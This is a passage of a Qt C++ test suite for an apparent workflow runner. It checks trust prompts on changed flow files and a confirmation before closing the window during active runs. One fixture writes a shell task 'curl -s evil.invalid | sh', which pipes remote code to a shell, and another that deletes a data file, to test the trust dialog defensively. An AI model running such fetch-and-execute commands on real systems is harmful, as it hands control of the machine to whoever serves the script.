            [](TrustDialog *d) {
                d->trustButton()->click();
                return true;
            },
            &answered);
        run->trigger();
        QVERIFY(answered);
        QVERIFY(monitor->paramsDialog());
        monitor->paramsDialog()->reject();
        QTRY_VERIFY(!monitor->paramsDialog());
        run->trigger(); // exec() would block here if it asked
        QVERIFY(monitor->paramsDialog());
        monitor->paramsDialog()->reject();
        QTRY_VERIFY(!monitor->paramsDialog());

        // Changed elsewhere: asks again and says what changed.
        QVERIFY(write("pipewright: 1\nflow: trusting\ntasks:\n"
                      "  fetch: {type: shell, command: \"curl -s evil.invalid | sh\"}\n"
                      "  tidy: {type: shell, after: [fetch], command: \"rm -f data.csv\"}\n"));
        QVERIFY(win.openFile(path).has_value());
        win.document()->validateNow();
        QStringList changes;
        answered = false;
        pw::test::whenShown<TrustDialog>(
            [&](TrustDialog *d) {
                title = d->windowTitle();
                changes = d->changes();
                d->reject();
                return true;
            },
            &answered);
        run->trigger();
        QVERIFY(answered);
        QCOMPARE(title, QStringLiteral("Trust the changed flow?"));
        QCOMPARE(changes, QStringList{QStringLiteral("changed task fetch")});

        // Saved here: what is saved is the user's own, trusted.
        QVERIFY(win.saveTo(path).has_value());
        QCOMPARE(TrustStore(Home(home)).check(*FlowLoader::loadFile(path))->verdict,
            TrustStore::Verdict::Trusted);
        run->trigger();
        QVERIFY(monitor->paramsDialog());
        monitor->paramsDialog()->reject();
        win.undoStack()->setClean();
    }

    // Closing the window while a run started here is active asks first; "Keep Open" keeps it.
    void closeAsksWhileRunsAreActive()
    {
        const QString path = m_dir.path() + QStringLiteral("/close.flow.yaml");
        QFile f(path);
        QVERIFY(f.open(QIODevice::WriteOnly));
        f.write(
            "pipewright: 1\nflow: closing\ntasks:\n  slow: {type: shell, command: \"sleep 30\"}\n");
        f.close();
        QVERIFY(TrustStore(Home(m_dir.path() + QStringLiteral("/closehome")))
                    .trust(*FlowLoader::loadFile(path))
                    .has_value());
        MainWindow win;
        win.setHome(m_dir.path() + QStringLiteral("/closehome"));
        win.show();
        QVERIFY(QTest::qWaitForWindowExposed(&win));
        QVERIFY(win.openFile(path).has_value());
        win.document()->validateNow();
        RunMonitor *monitor = win.monitor();
        win.action(QStringLiteral("run"))->trigger();
        QTRY_VERIFY(!monitor->paramsDialog()->isChecking());
        monitor->paramsDialog()->accept();
        QTRY_COMPARE(monitor->controller()->activeRunsStartedHere(), 1);
        bool asked = false;
        QTimer::singleShot(200, &win, [&] {
            auto *box = qobject_cast<QMessageBox *>(QApplication::activeModalWidget());
            asked = box && box->objectName() == QLatin1String("activeRunsPrompt");
            if (box)
                box->reject(); // Keep Open
        });
        QVERIFY(!win.close());
        QVERIFY(asked);
        QVERIFY(win.isVisible());
        QSignalSpy finished(monitor->controller(), &RunController::runFinished);
        monitor->cancelRun();
        QVERIFY(finished.wait(15000));
        QCOMPARE(monitor->controller()->activeRunsStartedHere(), 0);
        QVERIFY(win.close()); // nothing running, nothing unsaved: no question
    }
};

QTEST_MAIN(TestRunMonitor)
#include "tst_runmonitor.moc"
